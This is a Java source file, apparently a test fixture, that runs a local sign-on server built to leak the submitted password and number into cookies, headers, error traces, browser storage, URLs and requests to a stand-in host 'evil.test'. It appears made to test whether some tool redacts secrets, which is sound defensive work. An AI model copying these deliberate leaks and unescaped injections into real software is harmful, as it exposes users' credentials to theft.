package dev.rote.app;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

/// A site that signs a clerk on and then says, wherever an application can say anything, the password and the number
/// that it was given: in headers, in errors, in names of hosts, files, windows and cookies.
final class EchoingSite implements AutoCloseable {
    private static final String SIGN_ON = """
            <!doctype html><title>Sign on</title><h1>Sign on</h1><form method=post action=/enter>
            <label>User <input name=u></label> <label>Password <input name=p type=password></label>
            <label>Number <input name=n></label> <button>Sign in</button></form>""";

    private final HttpServer server;
    private final ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
    private volatile int status = 200;

    EchoingSite() {
        try {
            server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        server.setExecutor(threads);
        server.createContext("/", this::answer);
        server.start();
    }

    /// With which status the sign-on is answered from now on.
    void answering(int other) {
        status = other;
    }

    String origin() {
        return "http://127.0.0.1:" + server.getAddress().getPort();
    }

    private void answer(HttpExchange exchange) throws IOException {
        try (exchange) {
            Map<String, String> form =
                    form(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            switch (exchange.getRequestURI().getPath()) {
                case "/sign-on" -> send(exchange, 200, SIGN_ON);
                case "/enter" -> {
                    told(exchange, form.getOrDefault("p", ""), form.getOrDefault("n", ""));
                    send(exchange, status, page(form));
                }
                case "/export" -> {
                    exchange.getResponseHeaders()
                            .set(
                                    "Content-Disposition",
                                    "attachment; filename=\"" + form(exchange).get("p") + ".csv\"");
                    send(exchange, 200, "a,b\n");
                }
                case "/ask" -> {
                    exchange.getResponseHeaders()
                            .set(
                                    "WWW-Authenticate",
                                    "Basic realm=\"" + form(exchange).get("p") + "\"");
                    send(exchange, 401, "who is there?");
                }
                default -> send(exchange, 404, "nothing is called " + exchange.getRequestURI());
            }
        }
    }

    private static void told(HttpExchange exchange, String password, String number) {
        exchange.getResponseHeaders().add("Set-Cookie", "last=" + password + "; Path=/");
        exchange.getResponseHeaders().add("Set-Cookie", "number=" + number + "; Path=/");
        exchange.getResponseHeaders().add("X-Debug", "signed on with " + password + " for " + number);
        exchange.getResponseHeaders().add("Server-Timing", "db;desc=\"" + password + "\"");
        exchange.getResponseHeaders().add("Link", "</" + password + ".css>; rel=preload; as=style");
    }

    private static String page(Map<String, String> form) {
        String password = form.getOrDefault("p", "");
        String number = form.getOrDefault("n", "");
        return """
                <!doctype html><title>Error for PASSWORD</title><h1>Trace</h1><pre>java.sql.SQLException: login
                denied for clerk/PASSWORD (NUMBER)</pre><p style="text-transform: uppercase">Was PASSWORD</p>
                <table><tr><td>Signed on as</td><td>USER</td></tr></table><iframe name="PASSWORD" srcdoc="NUMBER"></iframe>
                <img src="http://PASSWORD.evil.test/"><img src="/ask?p=PASSWORD"><script>
                console.error('PASSWORD', 'NUMBER'); localStorage.last = 'PASSWORD'; document.cookie = 'js=PASSWORD';
                sessionStorage.last = 'NUMBER'; history.replaceState(0, '', '/enter?p=PASSWORD&n=NUMBER#PASSWORD');
                new BroadcastChannel('PASSWORD'); indexedDB.open('PASSWORD'); alert('wrong: PASSWORD NUMBER');
                open('/sign-on?p=PASSWORD', 'PASSWORD'); location.href = '/export?p=PASSWORD';
                setTimeout(() => { throw new Error('cannot sign on with PASSWORD for NUMBER') });
                Promise.reject(new Error('PASSWORD')); fetch('/PASSWORD/NUMBER'); new WebSocket('ws://PASSWORD.evil.test/');
                </script>""".replace("PASSWORD", password).replace("NUMBER", number).replace("USER", form.getOrDefault("u", ""));
    }

    private static Map<String, String> form(HttpExchange exchange) {
        String query = exchange.getRequestURI().getRawQuery();
        return form(query == null ? "" : query);
    }

    private static Map<String, String> form(String urlencoded) {
        Map<String, String> fields = new HashMap<>();
        for (String pair : urlencoded.split("&", -1)) {
            int at = pair.indexOf('=');
            if (at > 0) {
                fields.put(pair.substring(0, at), URLDecoder.decode(pair.substring(at + 1), StandardCharsets.UTF_8));
            }
        }
        return fields;
    }

    private static void send(HttpExchange exchange, int status, String text) throws IOException {
        byte[] body = text.getBytes(StandardCharsets.UTF_8);
        if (!exchange.getResponseHeaders().containsKey("Content-Type")) {
            exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        }
        exchange.sendResponseHeaders(status, body.length);
        exchange.getResponseBody().write(body);
    }

    @Override
    public void close() {
        server.stop(0);
        threads.shutdownNow();
    }
}
